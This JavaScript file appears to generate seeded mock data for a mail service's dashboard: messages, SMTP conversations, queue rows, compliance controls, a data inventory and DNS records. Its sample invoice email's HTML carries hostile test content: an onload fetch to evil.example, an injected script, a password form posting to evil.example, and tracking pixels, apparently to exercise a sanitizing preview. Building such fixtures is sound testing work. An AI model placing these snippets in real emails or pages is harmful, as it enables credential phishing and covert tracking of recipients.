// Invented but likely-looking data for the mock server. Everything is made from
// one seed, so that two runs show the same.
let seed = 7;
const rnd = () => {
  seed = (seed * 1103515245 + 12345) % 2147483648;
  return seed / 2147483648;
};
const pick = (list) => list[Math.floor(rnd() * list.length)];
const int = (from, to) => from + Math.floor(rnd() * (to - from + 1));

const letters = '0123456789abcdefghjkmnpqrstvwxyz';
export const id = (kind) => `${kind}_01k${Array.from({ length: 23 }, () => pick(letters)).join('')}`;
export const iso = (ms) => new Date(ms).toISOString().replace('Z', '000Z');

const minute = 60_000;
const hour = 60 * minute;
const day = 24 * hour;

const people = [
  'ada',
  'grace.hopper',
  'linus',
  'margaret',
  'katherine.johnson',
  'alan',
  'barbara',
  'radia',
  'tim',
  'hedy',
];
const domains = [
  'example.net',
  'mail.example.org',
  'post.example.com',
  'uni.example.edu',
  'klinik.example.de',
];
const subjects = [
  'Your invoice 2026-1187 is ready',
  'Confirm your e-mail address',
  'Password reset',
  'Weekly report: 14 open tickets',
  'Re: contract, second version with the changes of Tuesday and the appendix on data processing',
  'Delivery on Thursday between 9 and 12',
  'Grüße aus Köln',
  '',
  'Welcome aboard',
  'Your order has been shipped',
];
const replies = {
  delivered: '250 2.0.0 Ok: queued as 4bXk2T1v5Qz',
  deferred: '451 4.7.1 Greylisting in action, please come back in 00:05:00',
  failed: '550 5.1.1 <nobody@example.net>: Recipient address rejected: User unknown',
};
const busy = '421 4.7.0 Try again later, closing connection. (EHLO)';

const address = () => `${pick(people)}@${pick(domains)}`;

export const html = `<html><head><style>.card{border:1px solid #e2e5ea;border-radius:10px;padding:24px;max-width:520px;margin:0 auto;font-family:sans-serif} @import url(https://tracker.example/x.css);</style></head>
<body style="background:#f3f4f8" onload="fetch('https://evil.example')">
<script>document.title='owned'</script>
<div class="card" style="background:#ffffff">
<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">
<img src="cid:logo@mail" alt="Logo" width="96" height="32">
<h1 style="font-size:22px;color:#2c3287;margin:12px 0">Your invoice is ready</h1>
<p>Hello Ada,</p>
<p>the invoice <b>2026-1187</b> over <b style="color:#1a8a4c">€ 248.00</b> is attached. It is due on 30 June.</p>
<p><a href="https://pay.example/i/1187" style="display:inline-block;background:#4650c8;color:#fff;padding:10px 18px;border-radius:8px;text-decoration:none">Pay now</a></p>
<p style="color:#667;font-size:12px;background:url(https://tracker.example/bg.png)">Example Ltd, 1 Example Street</p>
<form action="https://evil.example"><input name="password"></form>
</div></body></html>`;

export const text = `Hello Ada,

the invoice 2026-1187 over EUR 248.00 is attached. It is due on 30 June.

Pay: https://pay.example/i/1187

--
Example Ltd, 1 Example Street
`;

export const logo = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAGAAAAAgCAIAAABiouoDAAAARElEQVR42u3QQQkAAAgEsEvn29jGsoF/YbAES/VwiAJBggQJEiRIkCAECRIkSJAgQYIQJEiQIEGCBAlCkCBBggQJ+msB6c9o8UCgDewAAAAASUVORK5CYII=',
  'base64',
);

export const source = (m) =>
  [
    `Received: from client.example.org ([203.0.113.9]) by mx.mailvow.test with ESMTPS; ${new Date().toUTCString()}`,
    `From: ${m.from}`,
    `To: ${(m.to ?? []).join(', ')}`,
    `Subject: ${m.subject}`,
    `Date: ${new Date(m.received_at ?? Date.now()).toUTCString()}`,
    'Message-ID: <20260503120000.1187@example.org>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b1"',
    '',
    '--b1',
    'Content-Type: multipart/alternative; boundary="b2"',
    '',
    '--b2',
    'Content-Type: text/plain; charset=utf-8',
    '',
    text,
    '--b2',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '--b2--',
    '--b1--',
    '',
  ].join('\r\n');

export const headers = (m) => [
  { name: 'Received', value: 'from client.example.org ([203.0.113.9]) by mx.mailvow.test with ESMTPS' },
  { name: 'From', value: m.from ?? m.sender },
  { name: 'To', value: (m.to ?? ['ada@example.net']).join(', ') },
  { name: 'Subject', value: m.subject },
  { name: 'Message-ID', value: '<20260503120000.1187@example.org>' },
  {
    name: 'DKIM-Signature',
    value:
      'v=1; a=rsa-sha256; d=example.org; s=m1; c=relaxed/relaxed; h=from:to:subject:date:message-id; bh=frcCV1k9oG9oKj3dpUqdJg1PxRT2RSN/XKdLCPjaYaY=; b=dzdVyOfAKCdLXdJOc9G2q8LoXSlEniSbav+yuU4zGeeruD00lszZVoG4ZHRNiYzR',
  },
  { name: 'MIME-Version', value: '1.0' },
];

function recipient(state, now) {
  return {
    id: id('rcp'),
    address: address(),
    state,
    attempts: state === 'queued' ? 0 : state === 'deferred' ? int(1, 6) : 1,
    next_attempt_at: state === 'deferred' ? iso(now + int(1, 50) * minute) : null,
    last_reply: state === 'deferred' && rnd() < 0.4 ? busy : (replies[state] ?? ''),
  };
}

export function message(now, index) {
  const at = now - index * int(2, 9) * minute - int(5, 50) * 1000;
  const state = pick([
    'delivered',
    'delivered',
    'delivered',
    'delivered',
    'deferred',
    'failed',
    'queued',
    'held',
    'mixed',
  ]);
  const direction = rnd() < 0.3 ? 'inbound' : 'outbound';
  const states =
    state === 'mixed' ? ['delivered', 'failed', 'deferred'] : Array(pick([1, 1, 1, 2])).fill(state);
  const recipients = states.map((s) => recipient(s, now));
  return {
    id: id('msg'),
    direction,
    sender:
      direction === 'inbound' ? address() : `${pick(['billing', 'hello', 'no-reply'])}@shop.example.org`,
    recipients_count: recipients.length,
    subject: pick(subjects),
    received_at: iso(at),
    state,
    size: int(900, 240_000),
    tags: rnd() < 0.3 ? ['invoice'] : [],
    recipients,
    timeline: timeline(at, recipients),
    inbound: direction === 'inbound' ? inbound(at, recipients[0].address) : null,
  };
}

function inbound(at, to) {
  return {
    sender_ip: '203.0.113.9',
    message_id: '<20260503120000.1187@example.org>',
    envelope_sender: 'bounce@news.example.com',
    envelope_recipient: to,
    subject: 'Your invoice 2026-1187 is ready',
    date_received: iso(at),
    server_response: { status: 200, body: '{"ok":true}' },
    processing_ms: 184,
  };
}

function timeline(at, recipients) {
  const list = [
    { at: iso(at), kind: 'accepted', text: 'Accepted for delivery and sealed', by: 'submission' },
  ];
  for (const r of recipients) {
    if (r.state === 'queued') continue;
    if (r.state === 'held') {
      list.push({
        at: iso(at + 20),
        kind: 'held',
        recipient: r.address,
        text: 'Held by rule: first mail of a new sender',
      });
      continue;
    }
    list.push({
      at: iso(at + 120),
      kind: 'attempt',
      recipient: r.address,
      by: 'mx1.example.net [198.51.100.7]',
    });
    list.push({
      at: iso(at + 900),
      kind: r.state,
      recipient: r.address,
      reply: r.last_reply,
      by: 'mx1.example.net',
    });
  }
  if (recipients.every((r) => r.state === 'delivered')) {
    list.push({
      at: iso(at + 950),
      kind: 'content_destroyed',
      text: 'The last recipient is settled; the key of the content is destroyed',
    });
  }
  return list;
}

export const conversation = (m) =>
  m.recipients
    .filter((r) => r.attempts > 0)
    .map((r) => {
      const t0 = Date.parse(m.received_at) + 120;
      const step = (offset, took_ms, sent, got) => ({ at: iso(t0 + offset), took_ms, sent, got });
      return {
        recipient: r.address,
        attempt: r.attempts,
        at: iso(t0),
        steps: [
          step(0, 24, '', '220 mx1.example.net ESMTP ready'),
          step(
            24,
            22,
            'EHLO mta1.mailvow.test',
            '250-mx1.example.net\n250-PIPELINING\n250-SIZE 52428800\n250-STARTTLS\n250 SMTPUTF8',
          ),
          step(46, 61, 'STARTTLS', '220 2.0.0 Ready to start TLS'),
          step(107, 23, `MAIL FROM:<${m.sender}> SIZE=${m.size}`, '250 2.1.0 Ok'),
          step(130, 22, `RCPT TO:<${r.address}>`, r.state === 'failed' ? r.last_reply : '250 2.1.5 Ok'),
          ...(r.state === 'failed'
            ? []
            : [
                step(152, 20, 'DATA', '354 End data with <CR><LF>.<CR><LF>'),
                step(172, 640, `(${m.size} bytes)`, r.last_reply),
              ]),
          step(815, 19, 'QUIT', '221 2.0.0 Bye'),
        ],
      };
    });

export function queueRow(now) {
  const domain = pick(domains);
  const state = pick(['deferred', 'deferred', 'deferred', 'ready', 'held', 'leased']);
  return {
    id: id('rcp'),
    message: id('msg'),
    recipient: `${pick(people)}@${domain}`,
    domain,
    state,
    attempts: state === 'ready' ? 0 : int(1, 9),
    due_at: iso(now + int(-2, 55) * minute),
    expires_at: iso(now + int(1, 4) * day),
    last_reply: state === 'ready' ? '' : pick([replies.deferred, busy, '452 4.2.2 Mailbox full']),
    customer: 'Example Ltd',
  };
}

export function series(now, range) {
  const step = range === 'day' ? 15 * minute : minute;
  const n = range === 'day' ? 96 : 60;
  const start = Math.floor(now / step) * step - (n - 1) * step;
  return Array.from({ length: n }, (_, i) => {
    const wave = 40 + 26 * Math.sin(i / 7) + ((i * 37) % 17);
    const accepted = Math.round(wave * (range === 'day' ? 9 : 1));
    const deferred = Math.round(accepted * 0.06 + ((i * 13) % 4));
    const failed = Math.round(accepted * 0.02 + ((i * 7) % 2));
    return { at: iso(start + i * step), accepted, delivered: accepted - deferred - failed, deferred, failed };
  });
}

export const controls = [
  [
    'cm-encryption',
    'everything is encrypted across the platform',
    'kept',
    'canary of 12 KB searched in 41 files and 3 tables, raw, base64 and quoted-printable: not found; 5 listeners offered TLS 1.3',
  ],
  [
    'cm-content-transient',
    'inbound content is held only until the endpoint has taken it',
    'kept',
    'canary msg_01k9 delivered with 200; ciphertext and wrapped key gone from every file after 1.2 s',
  ],
  [
    'cm-inbound-http',
    "mail to a customer's address arrives at the customer's HTTP endpoint",
    'kept',
    'canary reached the local endpoint in 84 ms',
  ],
  [
    'mb-tls',
    'every connection of people and programs is encrypted',
    'failing',
    'listener 127.0.0.1:8080 answered in the clear; set http.tls or put it behind a proxy',
  ],
  [
    'cl-retry',
    'mail that cannot be delivered at once is tried again for the time that the policy says',
    'kept',
    'schedule of 18 attempts over 5 days, next attempt observed',
  ],
  [
    'cm-metadata-delete',
    'the record of any message can be deleted on request',
    'kept',
    'record of the canary deleted; search, timeline and export find nothing',
  ],
  [
    'cm-mgmt-separate',
    'management website is separate from mail servers',
    'not_applicable',
    'one process on SQLite',
  ],
  [
    'ca-datacentre',
    'data centres are SOC 2 audited and physically guarded',
    'attested',
    'report of 2026-02-11, expires 2027-02-11',
  ],
  ['ca-breach', 'each customer concerned is told of a breach within 72 hours', 'not_yet', ''],
  ['ca-hipaa', 'a HIPAA configuration with a BAA', 'not_yet', ''],
  ['cm-lawful', 'lawful requests are logged and reported openly', 'not_yet', ''],
].map(([cid, says, status, evidence]) => ({
  id: cid,
  says,
  kind: status === 'attested' ? 'organisational' : 'technical',
  status,
  evidence,
  checked_at: status === 'not_yet' ? null : iso(Date.now() - 4 * minute),
}));

export const inventory = [
  [
    'History of messages',
    'flow/history.event',
    'sender and recipients of mail',
    'show what happened to a message',
    'contract, Art. 6(1)(b)',
    '90 days',
    'row and key destroyed',
  ],
  [
    'Queued recipients',
    'flow/queue.recipient',
    'recipients of mail',
    'deliver mail',
    'contract, Art. 6(1)(b)',
    'until settled, 5 days at most',
    'row and key destroyed; nothing is sent',
  ],
  [
    'Message content',
    'keep/blob',
    'sender and recipients of mail',
    'deliver mail',
    'contract, Art. 6(1)(b)',
    'until the last recipient is settled',
    'holder removed; key destroyed with the last',
  ],
  [
    'SMTP conversations',
    'flow/history.conversation',
    'recipients of mail',
    'find out why delivery failed',
    'legitimate interest, Art. 6(1)(f)',
    '7 days',
    'row and key destroyed',
  ],
  [
    'Suppressed addresses',
    'flow/suppress.entry',
    'people who must not be written to',
    'not to write to them',
    'legal obligation, Art. 6(1)(c)',
    'until withdrawn',
    'keyed hash stays, address destroyed',
  ],
  [
    'Accounts',
    'protect/access.user',
    'people who sign in',
    'sign in, roles',
    'contract, Art. 6(1)(b)',
    'while the account exists',
    'row and key destroyed',
  ],
].map(([category, where, whose, purpose, basis, period, erasing]) => ({
  category,
  where,
  whose,
  purpose,
  basis,
  period,
  erasing,
}));

export function domain(name, state) {
  const ok = state === 'verified';
  const dkim =
    'v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAvW1fjZ7O0s6Sx2m4o3yqNgqvH5c1TtDq0bXc0pEJ9Xk1q3mQfHc2l8nKq';
  return {
    id: id('dom'),
    name,
    state,
    created_at: iso(Date.now() - 3 * day),
    checked_at: state === 'pending' ? null : iso(Date.now() - 12 * minute),
    records: [
      {
        type: 'TXT',
        name: `_mailvow.${name}`,
        value: 'mailvow-verify=01k9tq4m2v7hd8',
        purpose: 'Proves that the domain is yours',
        found: ok || state === 'failed' ? ['mailvow-verify=01k9tq4m2v7hd8'] : [],
        ok: ok || state === 'failed',
      },
      {
        type: 'TXT',
        name: `m1._domainkey.${name}`,
        value: dkim,
        purpose: 'DKIM key (RSA-2048)',
        found: ok ? [dkim] : [],
        ok,
      },
      {
        type: 'TXT',
        name,
        value: 'v=spf1 include:_spf.mailvow.test -all',
        purpose: 'SPF: who may send',
        found: ok
          ? ['v=spf1 include:_spf.mailvow.test -all']
          : state === 'failed'
            ? ['v=spf1 include:_spf.other.example ~all']
            : [],
        ok,
      },
      {
        type: 'MX',
        name,
        value: '10 mx1.mailvow.test.',
        purpose: 'Where mail for the domain goes',
        found: ok ? ['10 mx1.mailvow.test.'] : [],
        ok,
      },
    ],
  };
}
